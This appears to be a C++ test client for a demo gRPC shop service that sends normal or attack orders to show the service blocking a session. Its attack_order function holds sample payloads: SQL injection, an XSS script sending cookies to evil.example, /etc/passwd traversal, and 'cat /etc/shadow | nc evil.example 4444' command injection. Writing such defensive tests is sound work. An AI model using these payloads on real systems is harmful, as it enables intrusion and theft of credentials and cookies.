// A client for examples/grpc_service: sends Order RPCs as one session (metadata "x-session"),
// optionally naming a client address in "x-forwarded-for" (the service trusts it only from a
// configured proxy, as the demo's replayer is), and counts the answers, so the live test
// (live_test.sh) and a person trying docs/integrate.md can see a service get blocked. Normal orders
// draw products, cities and quantities from small word lists; attack orders carry the usual classes
// (SQL injection, XSS, path traversal, command injection, an oversized value, out-of-range numbers,
// deep nesting). Bounded by --count and --seconds. Prints one line:
//   sent=N ok=N denied=N other=N first_denied=I|-1 seconds=S
//   immunizer-grpc-client --target 127.0.0.1:50051 --session alice [--ip 198.51.100.7]
//                         --kind normal --count 100 [--rate 50] [--stop-when-denied] [--seconds 60]
//                         [--seed 1]
#include <grpcpp/grpcpp.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "immunizer/test/shop_service.grpc.pb.h"

namespace {

struct Options {
  std::string target = "127.0.0.1:50051";
  std::string session = "alice";
  std::string ip;  // sent as x-forwarded-for (honoured only from a trusted proxy)
  std::string kind = "normal";
  long count = 100;
  double rate = 50;
  double seconds = 60;
  bool stop_when_denied = false;
  unsigned seed = 1;
};

const std::vector<std::string> kProducts = {"Vino Rioja",     "Queso Manchego",   "Aceite de oliva",
                                            "Jamon iberico",  "Turron de Jijona", "Azafran",
                                            "Chorizo",        "Sobrasada",        "Cava brut",
                                            "Miel de romero", "Pimenton dulce",   "Mazapan"};
const std::vector<std::string> kStreets = {"Calle Mayor 1",       "Gran Via 23",
                                           "Paseo del Prado 8",   "Calle de Alcala 120",
                                           "Avenida Diagonal 45", "Calle Serrano 7"};
const std::vector<std::string> kCities = {"Madrid",   "Barcelona", "Sevilla",
                                          "Valencia", "Bilbao",    "Zaragoza"};
const std::vector<std::string> kCoupons = {"SPRING10", "WELCOME", "FREESHIP", "VIP5"};

template <typename T>
const T& pick(std::mt19937& rng, const std::vector<T>& v) {
  return v[std::uniform_int_distribution<size_t>(0, v.size() - 1)(rng)];
}

immunizer::test::OrderRequest normal_order(std::mt19937& rng) {
  immunizer::test::OrderRequest r;
  r.set_product(pick(rng, kProducts));
  r.set_quantity(std::uniform_int_distribution<int>(1, 6)(rng));
  r.set_price(std::uniform_int_distribution<int>(250, 4500)(rng) / 100.0);
  r.set_gift(std::uniform_int_distribution<int>(0, 4)(rng) == 0);
  r.set_speed(std::uniform_int_distribution<int>(0, 3)(rng) == 0 ? immunizer::test::EXPRESS
                                                                 : immunizer::test::STANDARD);
  r.mutable_ship_to()->set_street(pick(rng, kStreets));
  r.mutable_ship_to()->set_city(pick(rng, kCities));
  if (std::uniform_int_distribution<int>(0, 2)(rng) == 0) r.add_coupons(pick(rng, kCoupons));
  return r;
}

immunizer::test::OrderRequest attack_order(std::mt19937& rng, long i) {
  immunizer::test::OrderRequest r = normal_order(rng);
  switch (i % 7) {
    case 0:
      r.set_product("' OR '1'='1' -- " + std::to_string(i));
      break;
    case 1:
      r.set_product("<script>document.location='http://evil.example/?c='+document.cookie</script>");
      break;
    case 2:
      r.mutable_ship_to()->set_street("../../../../../../etc/passwd%00");
      break;
    case 3:
      r.set_product("Vino; cat /etc/shadow | nc evil.example 4444");
      break;
    case 4:
      r.set_product(std::string(4000, 'A'));
      break;
    case 5:
      r.set_quantity(-999999999);
      r.set_price(-1e12);
      break;
    default: {
      auto* a = r.mutable_ship_to();
      for (int d = 0; d < 12; ++d) a = a->mutable_forward_to();
      a->set_street("UNION SELECT password FROM users");
      break;
    }
  }
  return r;
}

bool parse(int argc, char** argv, Options& o) {
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto value = [&]() -> const char* { return i + 1 < argc ? argv[++i] : nullptr; };
    const char* v = nullptr;
    if (a == "--stop-when-denied") {
      o.stop_when_denied = true;
      continue;
    }
    if (!(v = value())) return false;
    if (a == "--target")
      o.target = v;
    else if (a == "--session")
      o.session = v;
    else if (a == "--ip")
      o.ip = v;
    else if (a == "--kind")
      o.kind = v;
    else if (a == "--count")
      o.count = std::atol(v);
    else if (a == "--rate")
      o.rate = std::atof(v);
    else if (a == "--seconds")
      o.seconds = std::atof(v);
    else if (a == "--seed")
      o.seed = static_cast<unsigned>(std::atol(v));
    else
      return false;
  }
  return (o.kind == "normal" || o.kind == "attack") && o.count > 0 && o.count <= 1'000'000 &&
         o.seconds > 0 && o.seconds <= 3600;
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  if (!parse(argc, argv, o)) {
    std::fprintf(stderr,
                 "usage: immunizer-grpc-client [--target HOST:PORT] [--session S] [--ip ADDR] "
                 "[--kind normal|attack] [--count N] [--rate R] [--seconds S] "
                 "[--stop-when-denied] [--seed N]\n");
    return 2;
  }
  auto stub = immunizer::test::Shop::NewStub(
      grpc::CreateChannel(o.target, grpc::InsecureChannelCredentials()));
  std::mt19937 rng(o.seed);
  long sent = 0, ok = 0, denied = 0, other = 0, first_denied = -1;
  const auto t0 = std::chrono::steady_clock::now();
  const auto deadline = t0 + std::chrono::duration<double>(o.seconds);
  for (long i = 0; i < o.count && std::chrono::steady_clock::now() < deadline; ++i) {
    if (o.rate > 0) std::this_thread::sleep_until(t0 + std::chrono::duration<double>(i / o.rate));
    const auto req = o.kind == "attack" ? attack_order(rng, i) : normal_order(rng);
    grpc::ClientContext ctx;
    ctx.AddMetadata("x-session", o.session);
    if (!o.ip.empty()) ctx.AddMetadata("x-forwarded-for", o.ip);
    ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(5));
    immunizer::test::OrderReply rep;
    const grpc::Status st = stub->Order(&ctx, req, &rep);
    ++sent;
    if (st.ok()) {
      ++ok;
    } else if (st.error_code() == grpc::PERMISSION_DENIED) {
      if (denied++ == 0) first_denied = i;
      if (o.stop_when_denied) break;
    } else {
      ++other;
    }
  }
  const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  std::printf("sent=%ld ok=%ld denied=%ld other=%ld first_denied=%ld seconds=%.2f\n", sent, ok,
              denied, other, first_denied, secs);
  return 0;
}
